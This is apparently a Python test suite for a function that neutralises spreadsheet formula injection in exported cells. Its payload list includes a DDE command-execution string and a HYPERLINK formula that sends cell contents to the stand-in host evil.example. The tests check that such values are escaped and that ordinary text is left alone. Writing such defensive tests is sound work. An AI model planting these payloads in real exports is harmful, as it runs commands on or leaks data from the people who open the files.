"""No spreadsheet runs what a customer wrote."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inbox.rules.cells import FORMULA, cell

PAYLOADS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+49 30 123",
    "-1+1|cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload) -> None:
    assert cell(payload) == f"'{payload}"


@pytest.mark.parametrize("text", ["Hallo", "1+1=2", " =1", "'=1", "", "@"[1:], "a@b.de"])
def test_other_text_stays_as_it_is(text) -> None:
    assert cell(text) == text


def test_nothing_is_an_empty_cell() -> None:
    assert cell(None) == ""


@given(st.text())
def test_no_cell_begins_like_a_formula(text) -> None:
    assert not cell(text).startswith(FORMULA)
